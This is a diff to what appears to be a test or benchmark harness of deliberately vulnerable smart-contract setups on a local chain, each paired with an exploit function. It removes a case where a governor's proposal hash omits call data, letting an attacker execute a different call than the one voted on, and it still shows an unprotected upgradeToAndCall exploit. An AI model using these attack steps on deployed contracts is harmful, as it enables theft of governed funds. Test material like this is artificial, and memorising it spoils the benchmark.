@@ -71,42 +71,13 @@ export async function governed(chain: Chain, minterOf: (lock: Hex) => Hex): Prom
 }
 
 /** A governor that alone proposes to a timelock, with its token. */
-async function voting(chain: Chain, name: string, tokenFor: (lock: Hex) => Promise<Hex>) {
+export async function voting(chain: Chain, name: string, tokenFor: (lock: Hex) => Promise<Hex>) {
   const lock = (await chain.controllers.timelock(172_800n, [], [zeroAddress], chain.evm.accounts[0])).address
   const token = await tokenFor(lock)
   const governor = await chain.deploy(name, token, lock)
   await chain.send(lock, 'grantRole(bytes32,address)', [keccak256(stringToHex('PROPOSER_ROLE')), governor])
   await chain.send(lock, 'renounceRole(bytes32,address)', [ZERO_WORD, chain.evm.accounts[0]])
   return { lock, token, governor }
-}
-
-const NOTE = keccak256(stringToHex('note'))
-
-/** The holders voted for a harmless call; anyone may queue what has the same number. */
-async function harmlesslyVoted(
-  chain: Chain,
-  name: string,
-  harmless: (admin: Hex) => readonly unknown[],
-): Promise<Built> {
-  const { lock, token, governor } = await voting(chain, name, () => chain.deploy('GivenVotes'))
-  const built = await controlledBy(chain, lock, { token, governor })
-  await chain.send(token, 'delegate(address)', [chain.evm.accounts[0]])
-  const calls = harmless(part(built, 'admin'))
-  await chain.send(governor, 'propose(address[],uint256[],bytes[],string)', [...calls, 'note'])
-  await chain.node.rpc('anvil_mine', '0xc')
-  const data = callData('hashProposal(address[],uint256[],bytes[],bytes32)', [...calls, NOTE])
-  const id = await chain.node.rpc<Hex>('eth_call', { to: governor, data }, 'latest')
-  await chain.send(governor, 'castVote(uint256,uint8)', [BigInt(id), 1])
-  await chain.node.rpc('anvil_mine', '0x65')
-  return built
-}
-
-/** Queues and executes another call than was voted on. */
-async function executeOther(attack: Attack, built: Built, data: Hex): Promise<void> {
-  const other = [[part(built, 'admin')], [0n], [data], NOTE]
-  await attack.send(part(built, 'governor'), 'queue(address[],uint256[],bytes[],bytes32)', other)
-  await attack.wait(172_801)
-  await attack.send(part(built, 'governor'), 'execute(address[],uint256[],bytes[],bytes32)', other)
 }
 
 const plainLogic = (chain: Chain): Promise<Hex> => chain.deploy('Plain')
@@ -450,13 +421,6 @@ const drafts: readonly Draft[] = [
       return system(await chain.uups('ManagedLogic', manager))
     },
     exploit: ({ send, code }, { address }) => send(address, 'upgradeToAndCall(address,bytes)', [code, '0x']),
-  },
-  {
-    name: 'the number of a proposal leaves out the data of its calls',
-    by: 'anyone',
-    settings: NEW_EVM,
-    build: (chain) => harmlesslyVoted(chain, 'DatalessGovernor', (admin) => [[admin], [0n], ['0x8da5cb5b']]),
-    exploit: (attack, built) => executeOther(attack, built, upgradeCall(built.address, attack.code)),
   },
   {
     name: 'one key mints the votes of a governor',
